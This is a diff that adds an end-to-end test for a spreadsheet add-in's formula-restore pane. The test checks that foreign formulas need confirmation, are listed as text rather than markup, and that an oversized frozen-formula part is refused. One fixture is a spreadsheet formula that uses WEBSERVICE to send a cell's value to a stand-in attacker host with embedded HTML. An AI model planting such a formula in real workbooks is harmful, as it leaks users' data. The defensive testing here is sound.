@@ -8,6 +8,7 @@ import { SEGMENT_IDS } from '../../src/wire';
 import { buildAddin } from '../../addin/build/build';
 import { holdingsWorkbook, READ_FORMULAS, writePaneStandin } from '../../fixtures/pane-standin';
 import { realCatalogueIds } from '../../fixtures/issued-ids';
+import { FROZEN_NAMESPACE, serializeFrozen } from '../../addin/src/taskpane/freeze-xml';
 import { startStack, type Stack } from './stack';
 
 /**
@@ -97,6 +98,44 @@ describe('budget before refresh, in the pane', () => {
     expect(await p.evaluate(() => (window as unknown as { __paneState: { parts: unknown[]; sheets: { name: string }[] } }).__paneState.sheets.map((s) => s.name))).toEqual(['Holdings', 'SVC sources']);
     expect(await click(p, 'restore', /^Restored/)).toBe('Restored 1,250 SVC formulas.');
     expect(await p.evaluate(READ_FORMULAS)).toEqual(before);
+    await p.close();
+  });
+
+  it("restores SVC's own formulas at once and lists any other, restoring it only when confirmed; a hostile part is refused in words", async () => {
+    const p = await openPane();
+    const base = { sheet: 'Holdings', column: 1, rows: 1, columns: 1, formats: [['General']], currency: 'USD', assetId: 'X', asOf: '2026-11-26T00:00:00.000Z' };
+    const own = { ...base, row: 400, formula: '=SVC.MIDVALUE(A401)', value: 7 };
+    const foreign = { ...base, row: 401, formula: '=SVC.MIDVALUE(A402)&WEBSERVICE("https://evil.invalid/?<b>x</b>"&A402)', value: 8 };
+    const install = (xml: string) =>
+      p.evaluate((x) => {
+        const state = (window as unknown as { __paneState: { addPart(xml: string): void; sheets: { set(r: number, c: number, v: object): void }[] } }).__paneState;
+        state.sheets[0]!.set(400, 1, { value: 7 });
+        state.sheets[0]!.set(401, 1, { value: 8 });
+        state.addPart(x);
+      }, xml);
+    const formulaAt = (row: number) => p.evaluate((r) => (window as unknown as { __paneState: { sheets: { get(r: number, c: number): { formula: string | null } }[] } }).__paneState.sheets[0]!.get(r, 1).formula, row);
+    await install(serializeFrozen([own, foreign], new Date()));
+
+    expect(await click(p, 'restore', /^Restored/)).toBe("Restored 1 SVC formula. 1 formula is not SVC's own: confirm below to restore it.");
+    expect(await formulaAt(400)).toBe(own.formula);
+    expect(await formulaAt(401)).toBeNull();
+    expect(await p.isVisible('#restore-confirm')).toBe(true);
+    // Listed as text, never as markup.
+    expect(await p.$$eval('#restore-others li', (lis) => lis.map((li) => li.textContent))).toEqual([`Holdings!B402 (WEBSERVICE): ${foreign.formula}`]);
+    expect(await p.$$eval('#restore-others b', (bs) => bs.length)).toBe(0);
+
+    expect(await click(p, 'restore-keep', /^Left/)).toBe('Left 1 formula as values; "SVC sources" still lists it.');
+    expect(await p.isHidden('#restore-confirm')).toBe(true);
+    expect(await formulaAt(401)).toBeNull();
+
+    expect(await click(p, 'restore', /^Restored/)).toBe("Restored 0 SVC formulas. 1 formula is not SVC's own: confirm below to restore it.");
+    expect(await click(p, 'restore-go', /^Restored/)).toBe('Restored 1 formula you confirmed.');
+    expect(await formulaAt(401)).toBe(foreign.formula);
+    expect(await p.isHidden('#restore-confirm')).toBe(true);
+
+    // A part declaring every cell of a sheet: refused with the reason, nothing written.
+    await install(`<frozen xmlns="${FROZEN_NAMESPACE}" version="1"><cell sheet="Holdings" row="0" column="0" rows="1048576" columns="16384" type="number" value="7"><formula>=SVC.MIDVALUE(A1)</formula></cell></frozen>`);
+    expect(await click(p, 'restore', /frozen-formula part/)).toMatch(/declares a block of 1,048,576 × 16,384 cells/);
     await p.close();
   });
 });
